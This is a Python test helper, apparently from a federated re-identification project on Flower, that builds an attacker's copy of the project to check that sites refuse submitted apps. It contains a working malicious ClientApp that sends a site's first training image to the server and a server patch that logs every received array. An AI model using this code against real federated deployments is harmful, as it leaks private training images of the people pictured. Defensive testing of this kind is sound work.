"""A submitter's attack on the sites' images, as a test plays it: a copy of this project whose
ClientApp returns the first training image of the site it runs on, byte for byte, in its reply
arrays, and whose ServerApp records every array it receives.

On a site that ran the submitted app (Flower's own behaviour, ``fedreid-client --run-submitted-app``)
the image reaches the server; a site that runs only its installed fedreid refuses the app.
"""

from __future__ import annotations

import shutil
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
NOT_COPIED = (".git", ".venv", "outputs", "data", "fedreid-state", "__pycache__", "*.egg-info", ".flwr", "results")

STEALING_CLIENTAPP = '''
"""The attack: no training, just the site's first training image in the reply."""
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


def _steal(msg: Message, context: Context) -> Message:
    image = sorted((Path(str(context.node_config["data-root"])) / "train").glob("*.jpg"))[0].read_bytes()
    arrays = ArrayRecord({"stolen": Array(np.frombuffer(image, dtype=np.uint8).copy())})
    return Message(RecordDict({"arrays": arrays, "metrics": MetricRecord({"num-examples": 1}),
                               "site": ConfigRecord({"name": str(context.node_config.get("dataset"))})}),
                   reply_to=msg)


@app.train()
def train(msg: Message, context: Context) -> Message:
    return _steal(msg, context)


@app.evaluate()
def evaluate(msg: Message, context: Context) -> Message:
    return _steal(msg, context)
'''

RECORDING_SERVER = '''

# The attack's server side: every array of every reply, appended to a file, one "REPLY" line each.
import server.rounds as _rounds

_exchange = _rounds.exchange


def _recording_exchange(*args, **kwargs):
    result = _exchange(*args, **kwargs)
    with open({log!r}, "ab") as handle:
        for reply in result.replies:
            handle.write(b"REPLY\\n")
            if reply.has_content():
                for record in reply.content.array_records.values():
                    for array in record.values():
                        handle.write(array.data)
    return result


_rounds.exchange = _recording_exchange
'''


def stealing_app(folder: Path, received: Path) -> Path:
    """The attacker's copy of the project in ``folder``; its ServerApp appends what it receives to ``received``."""
    shutil.copytree(REPO, folder, ignore=shutil.ignore_patterns(*NOT_COPIED))
    (folder / "clients" / "app.py").write_text(STEALING_CLIENTAPP)
    with open(folder / "server" / "app.py", "a", encoding="utf-8") as handle:
        handle.write(RECORDING_SERVER.replace("{log!r}", repr(str(received))))
    return folder


def image_fingerprints(roots: list[Path], width: int = 48) -> dict[Path, bytes]:
    """A stretch of every image's compressed data (from its middle, past the common JPEG headers)."""
    prints = {}
    for root in roots:
        for path in sorted(root.rglob("*.jpg")):
            data = path.read_bytes()
            prints[path] = data[len(data) // 2: len(data) // 2 + width]
    return prints


def leaked(prints: dict[Path, bytes], files: list[Path]) -> list[Path]:
    """The images any of ``files`` holds a stretch of."""
    blobs = [f.read_bytes() for f in files if f.is_file()]
    return [path for path, stretch in prints.items() if any(stretch in blob for blob in blobs)]
